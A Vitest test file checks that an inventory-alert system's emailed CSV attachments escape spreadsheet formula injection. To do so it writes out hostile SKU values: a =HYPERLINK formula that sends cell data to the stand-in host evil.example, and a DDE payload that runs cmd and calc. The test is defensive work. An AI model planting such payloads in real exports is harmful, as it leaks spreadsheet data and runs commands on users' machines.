import { afterEach, describe, expect, test } from 'vitest';
import { deliverDue, evaluateAlerts } from '../../alerts/index.ts';
import { Database } from '../../db/database.ts';
import { alertTestConfig } from '../alerts/helpers/alert-config.ts';
import { createMarts, injectEastShopifyIncident, now } from '../alerts/helpers/mart-fixture.ts';
import { startSmtpSink, type SmtpSink } from '../alerts/helpers/smtp-sink.ts';
import { useTempDir } from '../helpers/temp-dir.ts';

const tempDir = useTempDir('stocklens-hostile-csv-');
let sink: SmtpSink | undefined;
let db: Database | undefined;
afterEach(async () => {
  db?.closeSync();
  await sink?.close();
});

const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")';

describe('CSV a spreadsheet opens never runs a formula from the data', () => {
  test('SKUs such as =HYPERLINK(…) and @SUM(…) reach an alert email\'s CSV attachment as text', async () => {
    const dir = tempDir();
    sink = await startSmtpSink();
    const config = alertTestConfig(dir, sink.port);
    db = await Database.open(config.databaseFile);
    await createMarts(db);
    await injectEastShopifyIncident(db);
    await db.run(`update marts.fct_mismatch set sku = case sku when 'SKU-001' then '${hyperlink.replace(/'/g, "''")}' when 'SKU-002' then '@SUM(1+1)*cmd|'' /C calc''!A0' else sku end`);
    const evaluation = await evaluateAlerts(config, db, { now });
    expect(evaluation.errors).toEqual([]);
    await deliverDue(config, db, { now: new Date(now.getTime() + 31_000) });
    const [mail] = await sink.waitFor(1);
    const csv = mail.parsed.attachments.find((attachment) => attachment.filename?.endsWith('.csv'))!.content.toString('utf8');
    expect(csv).toContain(`"'${hyperlink.replace(/"/g, '""')}"`);
    expect(csv).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    // No cell starts with a formula character; numbers such as a negative difference stay numbers.
    for (const line of csv.trim().split('\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
    expect(csv).toMatch(/,-\d+,/);
  });
});
